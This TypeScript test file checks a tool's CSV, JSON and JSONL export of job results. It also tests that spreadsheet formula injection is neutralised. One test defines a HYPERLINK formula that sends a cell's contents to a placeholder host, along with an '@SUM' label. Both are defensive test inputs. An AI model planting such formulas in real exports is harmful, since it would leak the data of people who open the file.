// Exports a researcher opens in R, pandas or a spreadsheet: RFC 4180 CSV with one out.<field> column per
// structured field, JSON and JSONL with the same rows, column choice, and a clear error for an unknown column.
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runView } from '../../../src/main/api/run-view.ts';
import { neutraliseFormula } from '../../../src/main/export/csv.ts';
import { exportRun, type ExportOptions } from '../../../src/main/export/write.ts';
import { testEngine, textJobs, type TestEngine } from '../../helpers/engine.ts';

const SCHEMA = { type: 'object', properties: { topic: { type: 'string' }, score: { type: 'integer' }, tags: { type: 'array', items: { type: 'string' } } }, required: ['topic', 'score', 'tags'] };

async function exported(engine: TestEngine, runId: string, options: ExportOptions): Promise<string> {
  let text = '';
  const sink = new Writable({ write: (chunk, _enc, done) => ((text += chunk.toString()), done()) });
  await exportRun(engine.host.store, runId, sink, options);
  return text;
}

describe('exports', () => {
  let engine: TestEngine;
  let runId: string;
  beforeAll(async () => {
    engine = testEngine();
    const tricky = ['plain', 'a "quoted", comma', 'two\nlines', '[[fail]] on purpose'];
    const jobs = textJobs(4, 'demo/echo', (i) => tricky[i]!).map((job) => ({ ...job, schema: SCHEMA }));
    runId = await engine.create({ jobs });
    await engine.runFor(60_000, 1000, () => runView(engine.host.ctx, runId).status === 'completed');
  });
  afterAll(() => engine.close());

  it('writes RFC 4180 CSV with structured fields as out.<field> columns', async () => {
    const csv = await exported(engine, runId, { format: 'csv' });
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(4);
    expect(Object.keys(rows[0]!)).toEqual(['run_id', 'job_id', 'input', 'model', 'provider', 'status', 'output', 'out.topic', 'out.score', 'out.tags', 'input_tokens', 'output_tokens', 'cost_usd', 'error', 'error_category', 'citations', 'simulated']);
    const ok = rows[1]!;
    expect(ok.status).toBe('succeeded');
    expect(JSON.parse(ok.output!)).toEqual({ topic: ok['out.topic'], score: Number(ok['out.score']), tags: JSON.parse(ok['out.tags']!) });
    expect(ok.simulated).toBe('true');
    const failed = rows[3]!;
    expect(failed).toMatchObject({ status: 'failed', output: '', 'out.topic': '', error_category: 'invalid_request' });
    expect(failed.error).toContain('[[fail]]');
  });

  it('keeps only the chosen columns, in the chosen order, and names unknown ones', async () => {
    const csv = await exported(engine, runId, { format: 'csv', columns: ['job_id', 'out.score', 'status'] });
    expect(csv.split('\n')[0]).toBe('job_id,out.score,status');
    await expect(exported(engine, runId, { format: 'csv', columns: ['nope'] })).rejects.toThrow(/unknown export column\(s\): nope \(available: run_id/);
  });

  it('writes the same rows as JSONL and as one JSON array, raw lines only on request', async () => {
    const lines = (await exported(engine, runId, { format: 'jsonl' })).trim().split('\n').map((l) => JSON.parse(l));
    const array = JSON.parse(await exported(engine, runId, { format: 'json' })) as unknown[];
    expect(array).toEqual(lines);
    expect(lines.map((l) => l.job_id)).toEqual(['j0', 'j1', 'j2', 'j3']);
    expect(lines[0]).toMatchObject({ status: 'succeeded', parsed: { topic: expect.any(String) }, simulated: true });
    expect(lines[0]).not.toHaveProperty('raw');
    const withRaw = JSON.parse((await exported(engine, runId, { format: 'jsonl', includeRaw: true })).split('\n')[0]!);
    expect(JSON.parse(withRaw.raw)).toMatchObject({ custom_id: expect.any(String), outcome: 'succeeded' });
  });
});

describe('CSV export and spreadsheet formulas', () => {
  const LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';
  let engine: TestEngine;
  let runId: string;
  beforeAll(async () => {
    engine = testEngine();
    const schema = { type: 'object', properties: { link: { type: 'string', enum: [LINK] } }, required: ['link'] };
    const jobs = textJobs(2).map((job, i) => ({ ...job, label: i === 0 ? '@SUM(1+1)' : 'plain.txt', schema }));
    runId = await engine.create({ jobs });
    await engine.runFor(60_000, 1000, () => runView(engine.host.ctx, runId).status === 'completed');
  });
  afterAll(() => engine.close());

  it('neutralises a cell beginning with =, +, -, @ with a leading apostrophe; JSONL keeps the value as it is', async () => {
    const rows = parse(await exported(engine, runId, { format: 'csv' }), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r['out.link'])).toEqual([`'${LINK}`, `'${LINK}`]);
    expect(rows.map((r) => r.input)).toEqual(["'@SUM(1+1)", 'plain.txt']);
    expect(Number(rows[0]!.cost_usd)).toBeGreaterThan(0);
    const lines = (await exported(engine, runId, { format: 'jsonl' })).trim().split('\n').map((l) => JSON.parse(l));
    expect(lines[0].parsed.link).toBe(LINK);
  });

  it('leaves text that is a plain number as it is (a label -1 stays -1), and neutralises one that only starts like one', () => {
    expect(['-1', '+0.5', '42'].map(neutraliseFormula)).toEqual(['-1', '+0.5', '42']);
    expect(['-1+1', '-cmd', '=1'].map(neutraliseFormula)).toEqual(["'-1+1", "'-cmd", "'=1"]);
  });
});
